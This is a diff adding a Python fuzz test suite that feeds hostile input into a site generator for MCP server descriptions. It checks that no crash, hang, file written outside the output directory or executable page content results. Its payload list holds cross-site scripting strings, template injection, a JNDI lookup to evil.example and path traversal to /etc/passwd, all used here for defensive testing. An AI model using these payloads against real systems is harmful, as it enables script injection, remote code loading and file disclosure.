@@ -1,0 +1,155 @@
+"""Fuzzing validate and build with hypothesis: arbitrary text, and valid descriptions whose
+strings and names are replaced by hostile payloads. Never a traceback, never a hang, never
+a file outside the site, never executable content in a page.
+
+The normal suite runs a bounded number of cases; a long run raises them:
+
+    MCPDESC_FUZZ_EXAMPLES=3000 .venv/bin/pytest tests/test_fuzz.py -o timeout=0
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from .helpers import diagnostics_of
+from .rich_document import rich
+from .sites import SAMPLE, html_pages, load_data, parse, run
+
+EXAMPLES = int(os.environ.get("MCPDESC_FUZZ_EXAMPLES", "0"))
+SETTINGS = settings(
+    max_examples=EXAMPLES or 40,
+    deadline=None if EXAMPLES else 5000,  # per case; a hang fails the case
+    suppress_health_check=list(HealthCheck),
+    derandomize=not EXAMPLES,  # the normal suite is reproducible; long runs explore
+)
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "java\tscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "[x](javascript:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "![x](https://evil.example/p.png)",
+    "<a href='javascript:alert(1)'>x</a>",
+    "background:url(https://evil.example/x)",
+    "</style><script>alert(1)</script>",
+    "{{ 7*7 }}",
+    "{% for x in range(9999999) %}x{% endfor %}",
+    "${jndi:ldap://evil.example/a}",
+    "../../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "con",
+    "\x00nul\x00",
+    "\u202eevil",
+    "𝕏" * 3,
+    "",
+]
+YAML_ALPHABET = st.sampled_from([*list("abc:-{}[],'\"#&*!|>%@`?\n \t0123456789.~"), "é", "\ufeff", "\\"])
+
+
+def no_executable_content(site: Path) -> None:
+    for page_path in html_pages(site):
+        page = parse(page_path)
+        sources = [s.get("src", "").rsplit("/", 1)[-1] for s in page.select("script")]
+        assert sources == ["mcpdesc-early.js", "mcpdesc.js"], page_path
+        for element in page.find_all(True):
+            for attribute, value in element.attrs.items():
+                assert not attribute.lower().startswith("on"), (page_path, element.name, attribute)
+                if attribute in ("href", "src", "action", "formaction", "srcset", "poster", "data"):
+                    text = value if isinstance(value, str) else " ".join(value)
+                    assert urlsplit(text.strip()).scheme.lower() in ("", "http", "https", "mailto"), text
+        assert page.select("iframe, object, embed, img, math, form[action], meta[http-equiv=refresh i]") == []
+
+
+@SETTINGS
+@given(text=st.text(alphabet=YAML_ALPHABET, max_size=300), suffix=st.sampled_from([".yaml", ".json", ".txt"]))
+def test_arbitrary_text_never_crashes_validate(tmp_path_factory, text: str, suffix: str) -> None:
+    path = tmp_path_factory.mktemp("fuzz") / f"d{suffix}"
+    path.write_text(text, encoding="utf-8")
+    code, out, err = run("validate", str(path))
+    assert code in (0, 1), err
+    assert "Traceback" not in err + out
+
+
+def mutate(document: Any, data: st.DataObject) -> Any:
+    """Replace some strings and mapping keys with payloads, keeping the structure."""
+    if isinstance(document, dict):
+        result = {}
+        for key, value in document.items():
+            if (
+                not key.startswith(("$", "x-"))
+                and key not in ("mcpdesc", "type", "mode")
+                and data.draw(st.integers(0, 9)) == 0
+            ):
+                key = key + data.draw(st.sampled_from(PAYLOADS))
+            result[key] = mutate(value, data)
+        return result
+    if isinstance(document, list):
+        return [mutate(item, data) for item in document]
+    if isinstance(document, str) and data.draw(st.integers(0, 2)) == 0:
+        return data.draw(st.sampled_from([document + p for p in PAYLOADS] + PAYLOADS))
+    return document
+
+
+TEXT_KEYS = {"description", "title", "message", "when", "onDecline", "onCancel", "text", "instructions"}
+
+
+def mutate_text(document: Any, data: st.DataObject, path: tuple[Any, ...] = ()) -> Any:
+    """Replace free text (and primitive names) with payloads. Names elsewhere have patterns,
+    and form schemas must stay equal to their interaction steps, so those are left alone:
+    the result usually stays valid and the pages get built with hostile text in them."""
+    key = path[-1] if path else ""
+    if isinstance(document, dict):
+        if key in ("requestedSchema", "steps"):
+            return document
+        return {k: mutate_text(v, data, (*path, k)) for k, v in document.items()}
+    if isinstance(document, list):
+        return [mutate_text(item, data, (*path, i)) for i, item in enumerate(document)]
+    primitive_name = (
+        key == "name" and len(path) == 3 and path[0] in ("tools", "resources", "resourceTemplates", "prompts")
+    )
+    if isinstance(document, str) and document and (key in TEXT_KEYS or primitive_name) and data.draw(st.booleans()):
+        payload = data.draw(st.sampled_from([p for p in PAYLOADS if p.strip()]))
+        return document + " " + payload if key == "name" else payload
+    return document
+
+
+BASES = [load_data(SAMPLE), rich()]
+
+
+@SETTINGS
+@given(data=st.data())
+def test_hostile_descriptions_build_inert_or_fail_cleanly(tmp_path_factory, data: st.DataObject) -> None:
+    base = copy.deepcopy(data.draw(st.sampled_from(BASES)))
+    document = mutate_text(base, data) if data.draw(st.integers(0, 3)) else mutate(base, data)
+    root = tmp_path_factory.mktemp("fuzzbuild")
+    (root / "d.json").write_text(json.dumps(document), encoding="utf-8")
+    code, out, err = run("build", str(root / "d.json"), "-o", str(root / "site"))
+    assert code in (0, 1), err
+    assert "Traceback" not in err + out
+    # nothing outside the site: only the input and the site directory exist
+    assert sorted(p.name for p in root.iterdir()) == (["d.json", "site"] if code == 0 else ["d.json"])
+    if code == 0:
+        no_executable_content(root / "site")
+
+
+@SETTINGS
+@given(data=st.data())
+def test_validator_never_crashes_on_hostile_documents(data: st.DataObject) -> None:
+    document = mutate(copy.deepcopy(data.draw(st.sampled_from(BASES))), data)
+    diagnostics_of(document)  # must not raise
